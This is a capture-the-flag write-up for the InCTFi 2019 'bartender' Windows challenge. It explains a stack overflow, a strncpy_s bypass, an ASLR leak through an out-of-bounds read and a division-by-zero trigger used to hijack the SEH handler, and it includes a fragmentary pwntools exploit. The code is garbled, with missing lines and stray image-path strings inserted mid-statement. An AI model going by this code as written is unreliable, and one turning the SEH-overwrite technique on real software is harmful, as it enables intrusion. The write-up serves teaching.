bartender - InCTF Internationals 2019

October 11, 2019 4 minutes

Writeup from InCTFi 2019 bartender Windows 32-bit SEH exploitation

Category: Pwn Challenge Points: 1000 Solves: 1

The challenge is a 32-bit windows executable. This is a simple windows exploiation challenge based on the Structured Exception Handling. Download the files here


PS D:\Downloads\Win_BE\bartender> .\bartender.exe
Welcome!! Hope you have a good time
What would you like
        1. Make a drink
        2. Look at menu
        3. Change a drink
        4. Serve drinks
        5. Add an Ingredient
        6. Leave bar
Enter your choice :A setting.xml was given with the handout

<?xml version="1.0" encoding="UTF-8"?>
    <SEHOP Enable="false" TelemetryOnly="false" />
  <AppConfig Executable="C:\Users\Public\bartender\bartender.exe">
    <SEHOP Enable="false" TelemetryOnly="false" />

This file was given to inform that SEHOP was disabled in remote Windows server.

This is a menu driven program, you can create a drink, modify a drink and so on. The drinks and ingredients are stored as an global array.

struct ingredient{
    char *name;
    DWORD key;

struct drink{
    char *name;
    DWORD value;

struct ingredient shelf[LEN];
struct drink *drinks[LEN];

When you make a drink, you get to add ingredients with a key that is a unique and prime number. The ingredient->key of all the ingredients you select are multiplied to from drink->value. Since the keys are prime numbers, the ingredients can be indentified by checking if the value is completely divisible by the key.

You can also see that a catFlag function is given to make exploitation easy.

  • Stack Bufferoverflow in the add Ingredient function.
  • Out of Bounds read in make drink functionality.

First thing you would notice is the stack bufferflow that can be seen inthe add ingredient option. You cannot exploit this bug by straightaway as stack cookies are enabled and also the main function doesn’t return as it is an while loop that terminates only when exit is called.

Also when you are overflowing, a stack buffer overrun error is returned in the addIngredient function call. This is because strncpy_s is used to copy name of the ingredient to heap.

errno_t strncpy_s(
   char *strDest,
   size_t numberOfElements,
   const char *strSource,
   size_t count

strncpy_s checks if the len of the src is greater than the count. Check out the docs for strncpy_s to know more. To bypass this, all you have to do is put a \x00 in your exploit, such that the the len of the src is less than count. You are able to overwrite the SEH handler with this overflow now, but you still have to trigger an exception to redirect to execution flow to overwritten handler.

/SAFESEH:NO compiler flag is also enabled, you check this by looking for the __safe_seh_table which will not be present if safeSEH is disabled. If enabled, the last two bytes of the exception handlers in the exception chain are stored in the table, and validity is checked before a exception call.

There is a division by zero bug in the change drink functionality when you give 0 asan option when removing an ingredient. You can use this bug to trigger the overwritten exception handler.

Now all you have to do is overwrite the SEH handler with address of catFlag. ASLR is enabled though. In Windows ASLR randomizes the image base everytime it is loaded into memory and this includes the executable image. You can use the .data section out of bound read vulnerability in the make drink functionality. The index read from the user is not validated. When you select an ingredient the key of that indredient->key([ingredient+4]) is used to form the drink->value. Provide an index such that the address+4 points to a image address. This address gets multiplied with drink->value and hence the image leak is obtained.

Finally you can overwrite the SE handler with catFlag and trigger the exception to get the flag.

from pwn import *

bin_path = "./bartender.exe"

def trigger():
    s.recvuntil("Enter your choice : ")
    s.recvuntil("Which drink do you want to change :")
    s.recvuntil("What change : ")
    s.recvuntil("Select the ingredients to remove : ")

def setup(exploit):
    s.recvuntil("Enter your choice : ")
    s.recvuntil("Enter the name of the ingredient :")
    s.recvuntil("Enter your choice : ")
    s.recvuntil("Enter Drink name :")
    s.sendline("Rum N Cola ")
    s.recvuntil("Select the ingredients :")
    s.recvuntil("Select the ingredients :")

def leak_base():
    s.recvuntil("Enteryour choice : ")
    s.recvuntil("Enter Drink name : ")
    s.sendline("base ")
    s.recvuntil("Select the ingredients : ")
    s.recvuntil("Current price = ")
    base = int(s.recvline())-8472"base = " + hex(base))
    s.recvuntil("Select the ingredients :")
    returnbase

exploit = p32(0x42424242)*4 +"\x01" + "c"*0x4c + "d"*3 +p32(catFlag) + "a"*4